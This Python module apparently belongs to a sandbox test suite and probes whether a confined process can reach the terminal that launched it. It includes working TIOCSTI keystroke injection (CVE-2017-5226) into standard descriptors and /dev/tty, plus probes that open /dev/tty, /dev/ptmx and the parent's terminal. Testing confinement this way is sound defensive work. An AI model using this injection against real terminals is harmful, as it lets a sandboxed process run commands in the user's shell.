"""What one does to the terminal from which the dispatcher was started."""

from __future__ import annotations

import fcntl
import os
import termios

from .table import TERMINAL, Absent, Bait, attack

TIOCLINUX = 0x541C
CAP_SYS_ADMIN = 21


def _types_into(number: int) -> None:
    @attack(TERMINAL, f"types into descriptor {number}")
    def run(bait: Bait) -> str:
        """What is typed so is run by the shell that comes next (CVE-2017-5226)."""
        try:
            for letter in bait["typed"].encode():
                fcntl.ioctl(number, termios.TIOCSTI, bytes([letter]))
        except OSError:
            if not bait["inside"] and _is_off():
                raise Absent("dev.tty.legacy_tiocsti is 0") from None
            raise
        return "typed"

    @attack(TERMINAL, f"reads the settings of descriptor {number}")
    def looks(_bait: Bait) -> str | None:
        return f"it is a terminal: {os.ttyname(number)}" if os.isatty(number) else None


def _is_off() -> bool:
    try:
        with open("/proc/sys/dev/tty/legacy_tiocsti") as file:
            return file.read().strip() == "0"
    except OSError:
        return False


for _number in (0, 1, 2):
    _types_into(_number)


@attack(TERMINAL)
def opens_its_controlling_terminal(_bait: Bait) -> str:
    os.close(os.open("/dev/tty", os.O_RDWR))
    return "it is open"


@attack(TERMINAL)
def types_by_way_of_its_controlling_terminal(bait: Bait) -> str:
    fd = os.open("/dev/tty", os.O_RDWR)
    try:
        fcntl.ioctl(fd, termios.TIOCSTI, b"x")
    except OSError:
        if not bait["inside"] and _is_off():
            raise Absent("dev.tty.legacy_tiocsti is 0") from None
        raise
    return "typed"


@attack(TERMINAL)
def opens_the_dispatchers_terminal_by_name(bait: Bait) -> str:
    os.close(os.open(bait["terminal"], os.O_RDWR | os.O_NOCTTY))
    return "it is open"


@attack(TERMINAL)
def makes_a_terminal(_bait: Bait) -> str:
    os.close(os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY))
    return "it is open"


@attack(TERMINAL)
def is_in_the_session_of_a_terminal(_bait: Bait) -> str | None:
    with open("/proc/self/stat") as file:
        fields = file.read().rpartition(")")[2].split()
    return f"terminal {fields[4]}" if fields[4] != "0" else None
